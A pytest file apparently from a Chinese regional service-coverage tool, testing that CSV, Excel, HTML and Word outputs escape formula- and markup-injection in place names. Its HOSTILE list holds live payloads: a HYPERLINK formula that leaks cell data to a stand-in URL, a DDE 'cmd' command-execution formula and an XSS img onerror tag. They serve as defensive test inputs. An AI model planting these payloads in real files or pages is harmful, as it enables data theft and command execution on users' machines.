"""Hostile names never become live formulas, markup or unwritable files (issue 19, item 1).

A copy of the demo gets spreadsheet-formula names (OWASP "CSV injection") in three places a
county office's data come from — a village name in the GeoJSON, a school name in the GBK CSV
and a hospital name in the 台账 — and ``coverage run`` must write workbooks without one
formula cell, CSVs without one cell a spreadsheet would run, an HTML report with the names
escaped and a Word report without field codes.  The writers are also checked directly with
what the loader may let through (control characters, lone surrogates, categorical columns).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from coverage.cli import main
from coverage.outputs import FORMULA_PREFIXES, formula_like, safe_frame, safe_text, write_csv

#: The names of issue 19 (and a few more an attacker would try).
HOSTILE = (
    '=HYPERLINK("http://x?d="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
    "<img src=x onerror=alert(1)>",
)
#: A cell text that a spreadsheet would run: formula-leading and not a plain number.
_PLAIN = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?%?|[+-]")


def _live(text: str) -> bool:
    head = text.lstrip(" \u3000\xa0")
    return (text.startswith(FORMULA_PREFIXES) or head.startswith(FORMULA_PREFIXES)) \
        and not _PLAIN.fullmatch(text)


# ------------------------------------------------------------------------- the writers


@pytest.mark.parametrize("name", HOSTILE)
def test_safe_text_escapes_every_hostile_name(name: str) -> None:
    if name.startswith("<"):
        assert safe_text(name) == name  # markup is the HTML writers' job, not a formula
        return
    out = safe_text(name)
    assert out == "'" + name and not _live(out)
    assert formula_like(name)


@pytest.mark.parametrize("value", ["-3", "+1.5e3", "-12%", "-", "河东街道", "a=b", "１２", "",
                                   "3-2", "张三 -2"])
def test_plain_text_and_numbers_are_left_alone(value: str) -> None:
    assert safe_text(value) == value


def test_compatibility_forms_and_leading_spaces_are_escaped() -> None:
    for value in ("﹦1+1", "＋1", "－A1", "＠SUM(A1)", "\u3000=1", "\xa0@x", "\n=1"):
        assert safe_text(value).startswith("'"), value


def test_unwritable_characters_become_visible() -> None:
    assert safe_text("村\x07名") == "村␇名"
    assert safe_text("=1\x00") == "'=1␀"
    assert safe_text("a\ud800b") == "a\ufffdb"
    assert safe_text("换\n行\t制表") == "换\n行\t制表"  # tab/LF/CR are legal inside a cell


def test_safe_frame_escapes_cells_headers_index_and_categories() -> None:
    df = pd.DataFrame(
        {"name": ["=1+1", None, "ok"], "n": [-1, 2, 3],
         "=header": pd.Categorical(["@x", "y", "@x"]),
         "items": [("=a", "b"), ["x"], float("nan")]},
        index=pd.Index(["=i", "j", "k"]))
    out = safe_frame(df)
    assert list(out["name"].iloc[[0, 2]]) == ["'=1+1", "ok"] and pd.isna(out["name"].iloc[1])
    assert out["n"].tolist() == [-1, 2, 3] and out["n"].dtype == df["n"].dtype
    assert "'=header" in out.columns and out["'=header"].tolist() == ["'@x", "y", "'@x"]
    assert out.index[0] == "'=i"
    assert df.loc["=i", "name"] == "=1+1"  # the input frame is not modified


def test_write_csv_has_no_live_cell(tmp_path: Path) -> None:
    df = pd.DataFrame({"名称": [*HOSTILE, "村\x07"], "人口": range(len(HOSTILE) + 1)})
    path = write_csv(df, tmp_path / "t.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if _live(c)]
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["人口"].tolist() == list(range(len(HOSTILE) + 1))  # numbers stay numbers
    assert back["名称"].iloc[0] == "'" + HOSTILE[0]


def test_workbook_writer_writes_strings_never_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from coverage.present.workbook import SheetSpec, write_workbook

    df = pd.DataFrame({"name": [*HOSTILE, "村\x07名", "a\ud800"],
                       "population": [float(i) for i in range(len(HOSTILE) + 2)],
                       "=HYPERLINK(\"x\")": ["-2+3"] * (len(HOSTILE) + 2)})
    path = write_workbook({"=sheet": SheetSpec(df, note="=1+1")}, tmp_path / "t.xlsx")
    ws = load_workbook(path).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and _live(c.value)]
    texts = {c.value for c in cells}
    assert "'" + HOSTILE[0] in texts and "村␇名" in texts
    numbers = [c.value for c in cells if c.column == 2 and c.row > 2]
    assert numbers and all(isinstance(v, int | float) for v in numbers)


def test_word_report_survives_a_control_character(tmp_path: Path) -> None:
    from coverage.present.report import ReportContent, ReportSection, write_docx_report

    content = ReportContent(title="t", subtitle="s", meta=(), sections=(
        ReportSection("x", table=pd.DataFrame({"名称": ["村\x07名", "=1+1"]})),))
    write_docx_report(content, tmp_path / "r.docx")


# ------------------------------------------------------------------------- end to end


def _hostile_demo(folder: Path) -> Path:
    """A copy of the demo with hostile names in a GeoJSON, a GBK CSV and the 台账."""
    from openpyxl import load_workbook

    from coverage.datasets import demo_config_path

    src = demo_config_path().parent.parent
    shutil.copytree(src, folder)
    demo = folder / "demo"
    gj = json.loads((demo / "villages.geojson").read_text(encoding="utf-8"))
    for i, feature in enumerate(gj["features"][:60]):
        feature["properties"]["村居名称"] = f"{HOSTILE[i % len(HOSTILE)]}#{i}"
    (demo / "villages.geojson").write_text(json.dumps(gj, ensure_ascii=False), encoding="utf-8")
    rows = list(csv.reader(io.StringIO((demo / "schools_gbk.csv").read_bytes().decode("gbk"))))
    for i, row in enumerate(rows[1:13]):
        row[1] = f"{HOSTILE[i % 8]}#s{i}"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    (demo / "schools_gbk.csv").write_bytes(buf.getvalue().encode("gbk"))
    wb = load_workbook(demo / "ledger.xlsx")
    ws = wb["医疗机构"]
    for i, r in enumerate(range(3, ws.max_row + 1)):
        cell = ws.cell(row=r, column=3)  # 机构名称
        cell.value = f"{HOSTILE[i % 5]}#h{i}"
        cell.data_type = "s"  # a text cell, as Excel stores a name typed with a leading '
    wb.save(demo / "ledger.xlsx")
    toml = demo / "region.toml"
    text = toml.read_text(encoding="utf-8")
    text = text.replace("[layers.hospital.ledger.columns]\n",
                        '[layers.hospital.ledger.columns]\nname = "机构名称"\n', 1)
    toml.write_text(text, encoding="utf-8")
    return toml


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    from coverage.outputs import sha256_file

    base = tmp_path_factory.mktemp("hostile")
    toml = _hostile_demo(base / "data")
    before = {str(p): sha256_file(p) for p in (base / "data").rglob("*") if p.is_file()}
    out = base / "out"
    assert main(["-q", "run", str(toml), "--out", str(out)]) == 0
    after = {str(p): sha256_file(p) for p in (base / "data").rglob("*") if p.is_file()}
    assert after == before  # inputs are never modified
    return out, before


@pytest.mark.slow
def test_workbooks_hold_no_formula_and_keep_numbers(hostile_run: tuple[Path, dict[str, str]]
                                                     ) -> None:
    from openpyxl import load_workbook

    out, _ = hostile_run
    books = sorted(out.rglob("*.xlsx"))
    assert {b.name for b in books} >= {"tables.xlsx", "gaps.xlsx"}
    escaped: set[str] = set()
    for book in books:
        wb = load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (book.name, ws.title, c.coordinate, c.value)
                    if isinstance(c.value, str):
                        assert not _live(c.value), (book.name, ws.title, c.coordinate)
                        if c.value.startswith("'"):
                            escaped.add(c.value.split("#")[0])
            if ws.title.startswith("可达性-"):
                header = [c.value for c in ws[1]]
                col = header.index("人口") + 1
                values = [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]
                assert values and all(isinstance(v, int | float) for v in values if v is not None)
    # the names did reach the workbook, escaped: from the GeoJSON, the GBK CSV and the 台账
    assert "'" + HOSTILE[0] in escaped and "'" + HOSTILE[1] in escaped
    assert any(v.startswith("'＝") or v.startswith("'+1+1") for v in escaped)


@pytest.mark.slow
def test_csvs_hold_no_live_cell(hostile_run: tuple[Path, dict[str, str]]) -> None:
    out, _ = hostile_run
    seen = 0
    for path in sorted(out.rglob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not _live(cell), (path.name, cell)
                    seen += cell.startswith("'=HYPERLINK")
    assert seen
    points = pd.read_csv(out / "tables" / "access_points.csv", encoding="utf-8-sig")
    assert pd.api.types.is_numeric_dtype(points["population"])
    names = set(points["name"])
    assert any(n.startswith("'=cmd|") for n in names)          # village (GeoJSON)
    sites = pd.read_csv(out / "tables" / "access_sites.csv", encoding="utf-8-sig")
    hospital_names = set(sites["name"].astype(str))
    assert any(n.startswith("'") and "#h" in n for n in hospital_names)  # 台账


@pytest.mark.slow
def test_reports_are_inert(hostile_run: tuple[Path, dict[str, str]]) -> None:
    out, _ = hostile_run
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<img src=x" not in html
    page = (out / "maps" / "resource_map.html").read_text(encoding="utf-8")
    assert "<img src=x onerror" not in page  # the map embeds names as escaped JSON
    with zipfile.ZipFile(out / "report.docx") as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist()
                      if n.startswith("word/") and n.endswith(".xml"))
    # the only fields are the report's own page numbers and contents (DDE/HYPERLINK/
    # INCLUDETEXT live in fields): no user text ever becomes a field code; markup escaped
    import re

    instructions = set(re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", xml))
    instructions |= set(re.findall(r'<w:fldSimple w:instr="([^"]*)"', xml))
    assert {i.split()[0] for i in instructions if i.strip()} <= {"PAGE", "TOC", "PAGEREF"}, \
        instructions
    assert "DDEAUTO" not in xml and "INCLUDETEXT" not in xml
    assert "<img src=x" not in xml
